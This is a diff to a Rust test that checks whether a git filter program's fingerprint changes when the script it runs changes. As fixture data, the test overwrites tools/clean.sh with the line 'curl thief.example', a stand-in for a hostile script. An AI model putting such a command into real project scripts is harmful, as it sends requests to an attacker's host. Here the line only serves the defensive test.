@@ -330,13 +330,14 @@ fn a_command_that_may_run_any_file_counts_with_the_whole_folder() {
         write(&folder.path().join("tools/clean.sh"), "cat\n");
         let before = GitPrograms::of(folder.path());
         assert_eq!(before.names(), ["filter.x.clean"], "{command}");
-        let (shown, text) = (before.shown(), before.text());
+        let (shown, text) = (before.effects().concat(), before.text());
+        let shown = shown.strip_prefix("Git runs this program: ").expect("a program");
         assert_eq!(
-            text.len() - shown.len(),
+            text.trim_end().len() - shown.len(),
             64 - 12,
             "a question shows 12 digits: {shown}"
         );
-        assert!(text.starts_with(shown.trim_end_matches(")\n")), "{shown}");
+        assert!(text.starts_with(shown.trim_end_matches(')')), "{shown}");
         write(&folder.path().join("tools/clean.sh"), "curl thief.example\n");
         assert_ne!(GitPrograms::of(folder.path()).text(), before.text(), "{command}");
     }
